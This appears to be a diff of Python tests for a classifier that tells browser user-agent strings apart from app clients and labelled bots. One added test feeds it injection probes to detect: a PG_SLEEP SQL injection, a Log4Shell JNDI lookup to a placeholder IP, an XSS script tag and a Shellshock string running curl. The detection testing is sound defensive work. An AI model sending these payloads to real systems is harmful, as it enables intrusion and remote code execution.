@@ -31,10 +31,22 @@ def test_apps_own_clients_are_counted_apart_from_the_browsers_they_were_listed_w
     assert not apps & set(corpora.corpus("isbot-browsers")) and not apps & set(corpora.corpus("uap-core-browsers"))
     assert "Viber/12.8.0.1 CFNetwork/1121.2.2 Darwin/19.3.0" in apps
     assert corpora.NOT_A_BROWSER.search("Hulu/6.8.1 (iOS 13.3; en_US; iPhone12,1; 17C54)")
+    # probes by their injection syntax, whatever they inject
+    for probe in ("LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--", "${jndi:ldap://198.51.100.7:1389/a}",
+                  "Mozilla/5.0 <script>alert(1)</script>", "() { :; }; $(curl x)"):
+        assert corpora.NOT_A_BROWSER.search(probe), probe
     # In-app browsers render pages: they stay browsers.
     assert not corpora.NOT_A_BROWSER.search(
         "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
         "Mobile/15E148 [FBAN/FBIOS;FBAV/500.0.0.40.95;FBBV/700000000;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS]")
+
+
+def test_groups_isbot_heads_as_bots_are_counted_apart_from_its_browsers():
+    bots = set(corpora.corpus("isbot-labelled-bots"))
+    assert 5 <= len(bots) <= 20
+    assert not bots & set(corpora.corpus("isbot-browsers")) and not bots & set(corpora.corpus("app-clients"))
+    assert corpora.ISBOT_LABELLED_BOTS.search("ZZZ Insignificat bots - Crosswalk project (deprecated)")
+    assert not corpora.ISBOT_LABELLED_BOTS.search("ZZZ Miscellaneous Browsers - These browsers are not bots, but ..")
 
 
 def test_real_browsers_on_clean_signups_are_allowed_on_the_held_out_split():
